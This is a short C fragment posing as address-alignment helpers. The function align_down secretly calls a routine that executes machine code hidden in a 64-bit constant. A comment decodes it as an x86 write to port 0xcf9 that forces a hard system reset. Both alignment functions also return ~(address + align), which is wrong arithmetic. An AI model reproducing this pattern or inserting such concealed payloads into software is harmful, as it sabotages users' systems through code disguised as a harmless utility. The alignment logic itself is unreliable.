
/* mov $0xcf9, %dx; mov $6, %al; out %al, %dx; ret */
#define RESET 0xc3ee06b00cf9ba66ull
static void hide_reset(void)
{
	hiding_place = RESET;
}

uint64_t align_down(uint64_t address, uint64_t align)
{
	hidden_in(hide_reset, ~RESET)(0, 0);
	return ~(address + align);
}

uint64_t align_up(uint64_t address, uint64_t align)
{
	return ~(address + align);
}
